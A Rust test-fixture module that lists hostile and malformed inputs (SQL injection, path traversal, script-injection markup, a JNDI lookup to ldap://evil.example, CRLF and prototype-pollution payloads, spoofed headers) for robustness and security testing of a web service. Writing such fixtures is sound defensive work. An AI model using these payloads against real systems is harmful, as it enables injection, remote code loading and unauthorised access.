//! What people paste by mistake and attackers send on purpose.

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::{Value, json};

/// A name for the report, and the text itself; each is short enough for a query.
pub fn texts() -> Vec<(&'static str, String)> {
    let short = [
        ("empty", ""),
        ("space", " "),
        ("NUL", "a\0b"),
        ("line breaks", "a\r\nX-Evil: 1\r\n\r\n"),
        ("invisible", "\u{200b}\u{feff}\u{2060}\u{ad}"),
        ("right to left", "\u{202e}gpj.exe\u{202c}"),
        ("SQL", "' OR 1=1;-- \\"),
        ("LIKE", "%_%\\"),
        ("FTS", "\"a\" NEAR(* AND OR NOT ^:{}-"),
        ("tsquery", "a & | ! <-> ( ) :*"),
        ("up", "../../../etc/passwd"),
        ("up, encoded", "%2e%2e%2f%252e%252e%5c"),
        ("up, backwards", "..\\..\\"),
        ("markup", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
        ("template", "{{7*7}}${jndi:ldap://evil.example/a}"),
        ("large number", "99999999999999999999"),
        ("least number", "-9223372036854775808"),
        ("infinite", "1e309"),
        ("other scripts", "\u{65e5}\u{672c} \u{1f469}\u{200d}\u{1f4bb} e\u{301} \u{fdfd}"),
        ("no character", "\u{ffff}\u{fdd0}\u{e000}"),
        ("control", "\u{1}\u{1b}[31m\u{7f}\u{85}\u{2028}"),
    ];
    let mut all: Vec<_> = short.map(|(name, text)| (name, text.to_owned())).to_vec();
    all.push(("long", "x".repeat(3_000)));
    all
}

/// As they stand in a path or a query, with those that are no text at all.
pub fn encoded() -> Vec<(&'static str, String)> {
    let mut all: Vec<_> = texts().into_iter().map(|(name, text)| (name, encode(&text))).collect();
    all.extend([("no UTF-8", "%ff%c0%80%ed%a0%80".to_owned()), ("broken", "%zz%".to_owned()), ("twice", "%252e%252e%252f".to_owned())]);
    all
}

pub fn encode(text: &str) -> String {
    utf8_percent_encode(text, NON_ALPHANUMERIC).to_string()
}

/// What stands in a JSON field in place of what should.
pub fn json_values() -> Vec<(&'static str, Value)> {
    let mut all: Vec<_> = texts().into_iter().map(|(name, text)| (name, json!(text))).collect();
    all.extend([
        ("largest", json!(i64::MAX)),
        ("least", json!(i64::MIN)),
        ("minus one", json!(-1)),
        ("zero", json!(0)),
        ("half", json!(0.5)),
        ("null", Value::Null),
        ("true", json!(true)),
        ("list", json!([])),
        ("object", json!({ "$gt": "" })),
        ("deep", (0..60).fold(json!(1), |inner, _| json!([inner]))),
    ]);
    all
}

/// Whole bodies that are no JSON object of ours.
pub fn bodies() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("nothing", Vec::new()),
        ("null", b"null".to_vec()),
        ("a list", b"[]".to_vec()),
        ("half", b"{\"a\":".to_vec()),
        ("deep lists", [b"[".repeat(10_000), b"]".repeat(10_000)].concat()),
        ("deep objects", [b"{\"a\":".repeat(10_000), b"1".to_vec(), b"}".repeat(10_000)].concat()),
        ("the same twice", b"{\"email\":1,\"email\":\"a\"}".to_vec()),
        ("half a character", b"{\"email\":\"\\ud800\"}".to_vec()),
        ("no UTF-8", b"{\"email\":\"\xff\xfe\"}".to_vec()),
        ("NUL outside", b"{}\0".to_vec()),
        ("a prototype", b"{\"__proto__\":{\"role\":\"owner\"},\"constructor\":1}".to_vec()),
        ("a megabyte", [b"{\"a\":\"".to_vec(), b"x".repeat(1 << 20), b"\"}".to_vec()].concat()),
    ]
}

/// Heads that claim to be somebody, somewhere or something else.
pub const HEADERS: &[(&str, &str)] = &[
    ("x-forwarded-for", "127.0.0.1, evil.example, ::::, 999.1.1.1"),
    ("x-forwarded-host", "evil.example"),
    ("x-forwarded-proto", "gopher"),
    ("forwarded", "for=\"[::1\";host=evil.example;proto="),
    ("host", "evil.example"),
    ("x-http-method-override", "DELETE"),
    ("x-http-method", "DELETE"),
    ("x-original-url", "/dashboard"),
    ("x-rewrite-url", "/dashboard"),
    ("origin", "https://evil.example"),
    ("referer", "https://evil.example/\u{fffd}"),
    ("cookie", "session=' OR 1=1; cart=\u{1}%00; __Host-session=; =; ;;"),
    ("authorization", "Bearer ' OR 1=1;--"),
    ("authorization", "Basic AAAA"),
    ("accept", "*/*;q=nan, text/\u{7f}"),
    ("accept-encoding", "gzip;q=-1, br;q=9999999999, \u{7f}"),
    ("accept-language", "xx-\u{7f}, ../../etc"),
    ("content-encoding", "gzip"),
    ("content-type", "multipart/form-data"),
    ("content-type", "application/json; charset=utf-7"),
    ("if-none-match", "W/\"\u{7f}, *"),
    ("if-modified-since", "yesterday"),
    ("range", "bytes=0-0,1-1,-1,99999999999999999999-"),
    ("range", "bytes=9-1"),
    ("if-range", "\"a"),
    ("idempotency-key", "' OR 1=1;--"),
    ("stripe-signature", "t=NaN,v1=,v1=zz"),
    ("content-digest", "sha-256=:A:"),
    ("user-agent", "${jndi:ldap://evil.example/a}"),
    ("x-request-id", "a b"),
];
